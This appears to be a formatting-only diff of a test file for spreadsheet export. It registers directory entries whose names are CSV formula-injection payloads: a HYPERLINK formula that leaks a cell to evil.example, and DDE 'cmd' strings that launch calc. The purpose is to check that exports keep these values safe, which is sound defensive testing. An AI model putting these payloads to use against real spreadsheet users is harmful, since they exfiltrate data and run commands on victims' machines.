@@ -9,7 +9,13 @@ import { readSheet, toCsv } from './index.js';
  * secretariat's spreadsheet as text, in CSV and in XLSX, and come back intact
  * when the file is imported again.
  */
-const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];
+const hostile = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+];
 
 let h: Harness;
 let staff: TestUser;
@@ -17,7 +23,11 @@ beforeAll(async () => {
   h = await createHarness();
   staff = await h.user({ roles: ['secretariat'] });
   for (const [i, name] of hostile.entries()) {
-    const res = await h.call(staff, { method: 'POST', url: '/api/v1/directory/people', payload: { name, email: `formula${i}@export.example`, countryCode: 'DE', phone: '+86 571 8888 0000' } });
+    const res = await h.call(staff, {
+      method: 'POST',
+      url: '/api/v1/directory/people',
+      payload: { name, email: `formula${i}@export.example`, countryCode: 'DE', phone: '+86 571 8888 0000' },
+    });
     expect(res.statusCode, res.body).toBe(201);
   }
 });
